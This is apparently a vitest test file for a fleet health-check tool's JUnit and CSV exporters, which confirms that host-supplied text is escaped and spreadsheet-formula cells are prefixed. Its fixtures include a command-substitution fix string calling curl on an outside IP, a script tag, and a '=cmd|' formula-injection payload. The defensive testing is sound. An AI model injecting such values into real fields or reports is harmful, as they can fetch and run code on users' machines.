import { describe, expect, it } from 'vitest';
import { buildCsv, CSV_HEADER } from '../../../src/report/csv.js';
import { buildJunit } from '../../../src/report/junit.js';
import { HOSTILE } from '../../fixtures/report/synthetic-fleet.js';
import { check, data, fleetCheck, host } from './rows.js';

const sample = () =>
  data(
    [host('hv1', 'failed', 'check failures'), host('hv2', 'unreachable', 'connect timeout after 10s'), host('hv3')],
    [
      check('hv1', 'bridge.mtu', 'fail', { message: HOSTILE.message, fix: HOSTILE.fix }),
      check('hv1', 'nic.link', 'error', { message: 'ethtool: not found' }),
      check('hv3', 'bridge.mtu', 'warn', { message: 'MTU 9000 on a 1500 uplink' }),
      check('hv3', 'nic.link', 'skipped', { message: 'no physical NIC' }),
    ],
    [fleetCheck('fleet.duplicate-mac', 'fail', ['hv1', 'hv3'], { message: HOSTILE.fleetMessage })],
  );

/** RFC 4180 reader, enough to read back what buildCsv writes. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') ((cell += '"'), i++);
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') (row.push(cell), (cell = ''));
    else if (c === '\r' && text[i + 1] === '\n') (row.push(cell), rows.push(row), (row = []), (cell = ''), i++);
    else cell += c;
  }
  return rows;
}

describe('JUnit export', () => {
  const xml = buildJunit(sample());

  it('has one testcase per host × check plus the fleet suite, with matching counts', () => {
    expect(xml.match(/<testcase /g)).toHaveLength(3 * 2 + 1);
    expect(xml).toMatch(/<testsuites name="fleet run 7: health-check" tests="7" failures="2" errors="3" time="61.500">/);
    expect(xml).toMatch(/<testsuite name="hv1" id="0" tests="2" failures="1" errors="1" skipped="0"/);
    expect(xml).toMatch(/<testsuite name="hv2" id="1" tests="2" failures="0" errors="2" skipped="0"/);
    expect(xml).toMatch(/<testsuite name="hv3" id="2" tests="2" failures="0" errors="0" skipped="1"/);
    expect(xml).toMatch(/<testsuite name="\(fleet-wide\)" id="3" tests="1" failures="1"/);
  });

  it('maps statuses: fail -> failure, error and unreachable -> error, skipped -> skipped, warn passes with output', () => {
    expect(xml).toContain('<testcase name="bridge.mtu" classname="hv1" time="0">\n      <failure message="MTU mismatch &lt;/script&gt;');
    expect(xml).toContain('type="check-error">ethtool: not found</error>');
    expect(xml).toContain('<error message="unreachable: connect timeout after 10s" type="unreachable">connect timeout after 10s</error>');
    expect(xml).toContain('<skipped message="no physical NIC"/>');
    expect(xml).toContain('<system-out>warn: MTU 9000 on a 1500 uplink</system-out>');
  });

  it('escapes everything that came from hosts', () => {
    expect(xml).not.toMatch(/<script|<img|<b /);
    expect(xml).toContain('Suggested fix:\nip link set dev &quot;$(curl http://198.51.100.1/x)&quot; mtu 1500 &lt;script&gt;');
  });
});

describe('CSV export', () => {
  const rows = parseCsv(buildCsv(sample()));

  it('has a header and one row per host × check, readable back', () => {
    expect(rows[0]).toEqual([...CSV_HEADER]);
    expect(rows).toHaveLength(1 + 3 * 2);
    expect(rows.slice(1).map((r) => [r[2], r[4], r[5]])).toEqual([
      ['hv1', 'bridge.mtu', 'fail'],
      ['hv1', 'nic.link', 'error'],
      ['hv2', 'bridge.mtu', 'unreachable'],
      ['hv2', 'nic.link', 'unreachable'],
      ['hv3', 'bridge.mtu', 'warn'],
      ['hv3', 'nic.link', 'skipped'],
    ]);
    expect(rows[1]![7]).toBe(HOSTILE.message);
    expect(rows[3]![9]).toBe('connect timeout after 10s');
  });

  it('prefixes cells a spreadsheet would evaluate', () => {
    const csv = buildCsv(
      data(
        [host('=cmd|"/c calc"!A1'), host('+hv'), host('@hv'), host('-hv')],
        [check('=cmd|"/c calc"!A1', 'x'), check('+hv', 'x'), check('@hv', 'x'), check('-hv', 'x')],
      ),
    );
    const names = parseCsv(csv)
      .slice(1)
      .map((r) => r[2]);
    expect(names).toEqual(['\'=cmd|"/c calc"!A1', "'+hv", "'@hv", "'-hv"]);
    expect(
      csv
        .split('\r\n')
        .slice(1, -1)
        .every((line) => !/^[^,]*,[^,]*,[=+\-@]/.test(line)),
    ).toBe(true);
  });
});
